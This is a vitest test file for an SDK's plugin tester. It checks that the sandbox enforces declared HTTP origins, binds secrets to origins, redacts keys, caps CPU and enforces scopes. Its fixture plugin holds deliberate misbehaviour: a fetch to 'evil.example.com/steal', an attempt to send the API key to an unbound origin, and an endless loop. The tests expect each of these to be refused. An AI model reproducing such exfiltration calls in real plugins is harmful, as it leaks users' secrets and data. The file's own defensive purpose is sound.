import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPlugin } from '../cli/build.ts';
import { fixtureProject } from '../cli/fixture-project.ts';
import type { DebtorRecord } from '../records.ts';
import { createPluginTester, type PluginTester } from './index.ts';

const manifest = {
  id: 'com.example.paytest',
  name: 'Pay test',
  version: '1.0.0',
  publisher: { id: 'com.example', name: 'Example' },
  requirements: { core: '^0.1.0' },
  capabilities: ['payLink'],
  hooks: [{ name: 'reminder.compose', kind: 'filter' }],
  scopes: ['debtors:read', 'invoices:read'],
  http: { origins: ['https://api.pay.example', 'https://files.pay.example'] },
  config: [
    { key: 'profile', type: 'string', label: 'Profile' },
    { key: 'apiKey', type: 'string', label: 'API key', secret: true, origins: ['https://api.pay.example'] },
  ],
};

/** A pay-link plugin whose input picks what it does. */
const plugin = `import { definePlugin, definePayLink, defineHook, ok, fail, type PluginManifest } from '@kredo/sdk';
import manifest from '../manifest.json' with { type: 'json' };

export default definePlugin({
  manifest: manifest as PluginManifest,
  capabilities: {
    payLink: definePayLink({
      async createLink(input: any, ctx) {
        if (input.mode === 'spin') for (;;) {}
        if (input.mode === 'elsewhere') return ctx.http.fetch('https://evil.example.com/steal');
        if (input.mode === 'files') {
          return ctx.http.fetch('https://files.pay.example/upload', { headers: { 'x-key': '{{secrets.apiKey}}' } });
        }
        const response = await ctx.http.fetch('https://api.pay.example/v2/payments', {
          method: 'POST',
          headers: { authorization: 'Bearer {{secrets.apiKey}}', 'content-type': 'application/json' },
          body: JSON.stringify({ amount: input.amount, profile: ctx.config.profile }),
        });
        if (!response.ok) return response;
        await ctx.storage.set('last', input.amount);
        ctx.log.info('link created');
        const body = JSON.parse(response.value.body);
        return ok({ url: body.url, echoed: body.echo ?? null, profile: ctx.config.profile });
      },
      handleWebhook: async () => fail('unused', 'unused'),
    } as any),
  },
  hooks: [
    defineHook('reminder.compose', async (input: any, ctx) => {
      const debtor = await ctx.core.getDebtor(input.debtorId);
      return debtor.ok ? ok({ lines: [debtor.value.name] }) : debtor;
    }),
  ],
});
`;

const debtor: DebtorRecord = {
  id: 'dbt_1',
  administrationId: 'adm_1',
  number: 'D-1',
  name: 'Acme BV',
  type: 'company',
  vatNumber: null,
  cocNumber: null,
  email: null,
  phone: null,
  language: 'nl',
  country: 'NL',
};

const recorded = [
  {
    request: { method: 'POST', url: 'https://api.pay.example/v2/payments', bodyIncludes: '"amount":1250' },
    response: { status: 201, body: { url: 'https://pay.example/l/abc' } },
  },
];

let dir: string;
const testers: PluginTester[] = [];
async function tester(options: Partial<Parameters<typeof createPluginTester>[0]> = {}) {
  const created = await createPluginTester({
    entry: 'src/plugin.ts',
    manifest: 'manifest.json',
    cwd: dir,
    config: { profile: 'pfl_9' },
    secrets: { apiKey: 'sk_live_topsecret' },
    ...options,
  });
  testers.push(created);
  return created;
}

beforeAll(async () => {
  dir = await fixtureProject({ 'manifest.json': JSON.stringify(manifest), 'src/plugin.ts': plugin });
});
afterAll(async () => {
  for (const created of testers) await created.close();
});

describe('createPluginTester', () => {
  it('builds the entry like kredo-plugin build and exposes its entry points', async () => {
    const built = await tester();
    expect([...built.hooks].sort()).toEqual([
      'capability:payLink.createLink',
      'capability:payLink.handleWebhook',
      'reminder.compose',
    ]);
  });

  it('answers from recordings; fills secrets at the edge and scrubs them from requests', async () => {
    const built = await tester({ http: { recorded } });
    const result = await built.run('capability:payLink.createLink', { amount: 1250 });
    expect(result).toEqual({
      ok: true,
      value: { ok: true, value: { url: 'https://pay.example/l/abc', echoed: null, profile: 'pfl_9' } },
    });
    expect(built.requests).toEqual([
      {
        method: 'POST',
        url: 'https://api.pay.example/v2/payments',
        headers: { authorization: 'Bearer [redacted]', 'content-type': 'application/json' },
        body: '{"amount":1250,"profile":"pfl_9"}',
      },
    ]);
    expect(built.storage.get('last')).toBe(1250);
    expect(built.logs).toEqual([{ level: 'info', message: 'link created' }]);
  });

  it('refuses an undeclared origin with http_origin_denied, and an unmatched request with no_recording', async () => {
    const built = await tester({ http: { recorded } });
    const denied = await built.run('capability:payLink.createLink', { mode: 'elsewhere' });
    expect(denied).toMatchObject({ ok: true, value: { ok: false, error: { code: 'http_origin_denied' } } });
    const unmatched = await built.run('capability:payLink.createLink', { amount: 7 });
    expect(unmatched).toMatchObject({ ok: true, value: { ok: false, error: { code: 'no_recording' } } });
    expect(built.requests).toHaveLength(1);
  });

  it('refuses a secret sent to a declared origin it is not bound to, as production does', async () => {
    const built = await tester({ http: { recorded } });
    const denied = await built.run('capability:payLink.createLink', { mode: 'files' });
    expect(denied).toMatchObject({
      ok: true,
      value: {
        ok: false,
        error: {
          code: 'secret_origin_denied',
          message:
            'the secret apiKey may not be sent to https://files.pay.example: its manifest binds it only to https://api.pay.example',
        },
      },
    });
    expect(built.requests).toEqual([]);
  });

  describe('with a local fake routed in for the manifest origin', () => {
    let server: Server;
    let seen: { authorization?: string; url?: string } = {};
    beforeAll(async () => {
      server = createServer((request, response) => {
        seen = { authorization: request.headers.authorization, url: request.url };
        response.setHeader('content-type', 'application/json');
        // A careless provider echoes the key back: the plugin must never see it.
        response.end(
          JSON.stringify({ url: 'https://pay.example/l/fake', echo: request.headers.authorization }),
        );
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it("refuses the secret to the fake's own address: binding is judged on the origin asked for", async () => {
      const port = (server.address() as AddressInfo).port;
      const built = await tester({
        http: { origins: { 'https://files.pay.example': `http://127.0.0.1:${port}` } },
      });
      seen = {};
      expect(await built.run('capability:payLink.createLink', { mode: 'files' })).toMatchObject({
        value: { ok: false, error: { code: 'secret_origin_denied' } },
      });
      expect(seen).toEqual({});
    });

    it('sends the filled secret to the fake and scrubs it from the answer', async () => {
      const port = (server.address() as AddressInfo).port;
      const built = await tester({
        http: { origins: { 'https://api.pay.example': `http://127.0.0.1:${port}` } },
      });
      const result = await built.run('capability:payLink.createLink', { amount: 5 });
      expect(seen).toEqual({ authorization: 'Bearer sk_live_topsecret', url: '/v2/payments' });
      expect(result).toEqual({
        ok: true,
        value: {
          ok: true,
          value: { url: 'https://pay.example/l/fake', echoed: 'Bearer [redacted]', profile: 'pfl_9' },
        },
      });
    });
  });

  it('ends an endless loop at the production CPU limit', async () => {
    const built = await tester();
    const result = await built.run('capability:payLink.createLink', { mode: 'spin' });
    expect(result).toMatchObject({
      ok: false,
      error: { code: expect.stringMatching(/^(cpu_limit|timeout)$/) },
    });
  });

  it('reads ctx.core with the granted scope and answers scope_denied without it', async () => {
    const granted = await tester({ core: { debtors: [debtor] } });
    expect(await granted.run('reminder.compose', { debtorId: 'dbt_1' })).toEqual({
      ok: true,
      value: { ok: true, value: { lines: ['Acme BV'] } },
    });
    expect(await granted.run('reminder.compose', { debtorId: 'dbt_2' })).toMatchObject({
      value: { ok: false, error: { code: 'not_found' } },
    });
    const refused = await tester({ core: { debtors: [debtor] }, grantedScopes: [] });
    expect(await refused.run('reminder.compose', { debtorId: 'dbt_1' })).toMatchObject({
      value: { ok: false, error: { code: 'scope_denied' } },
    });
  });

  it('loads an already built bundle', async () => {
    await buildPlugin({ entry: 'src/plugin.ts', out: 'dist/plugin.js', cwd: dir });
    const built = await tester({
      entry: undefined,
      bundle: path.join(dir, 'dist/plugin.js'),
      http: { recorded },
    });
    expect(await built.run('capability:payLink.createLink', { amount: 1250 })).toMatchObject({
      value: { ok: true, value: { url: 'https://pay.example/l/abc' } },
    });
  });

  it('rejects an invalid manifest with the paths of its errors', async () => {
    await expect(
      tester({ manifest: { ...manifest, http: { origins: ['http://x'] } } as never }),
    ).rejects.toThrow(/manifest: http\.origins\[0\]/);
  });
});
